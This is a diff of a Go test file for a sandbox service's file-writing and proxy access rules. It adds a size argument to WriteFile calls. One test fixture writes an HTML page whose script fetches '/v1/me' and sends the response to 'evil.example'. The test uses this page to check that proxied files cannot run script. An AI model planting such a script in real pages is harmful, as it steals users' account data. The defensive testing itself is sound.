@@ -100,7 +100,7 @@ func (f *fixture) sandbox(req service.CreateSandbox) service.Sandbox {
 		f.t.Fatal(err)
 	}
 	defer bin.Close()
-	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, sb.ID, "/usr/local/bin/guestsrv", "root", bin); err != nil {
+	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, sb.ID, "/usr/local/bin/guestsrv", "root", bin, -1); err != nil {
 		f.t.Fatal(err)
 	}
 	res, err := f.env.Sandboxes.Run(f.ctx, f.team, sb.ID, service.ExecCommand{User: "root",
@@ -258,7 +258,7 @@ func TestProxyAccessRules(t *testing.T) {
 	// are downloads, not sniffed, sandboxed by CSP, however they are
 	// reached.
 	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
-	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, private.ID, "/home/user/evil.html", "user", strings.NewReader(page)); err != nil {
+	if _, err := f.env.Sandboxes.WriteFile(f.ctx, f.team, private.ID, "/home/user/evil.html", "user", strings.NewReader(page), int64(len(page))); err != nil {
 		t.Fatal(err)
 	}
 	exp := time.Now().Add(time.Minute).Unix()
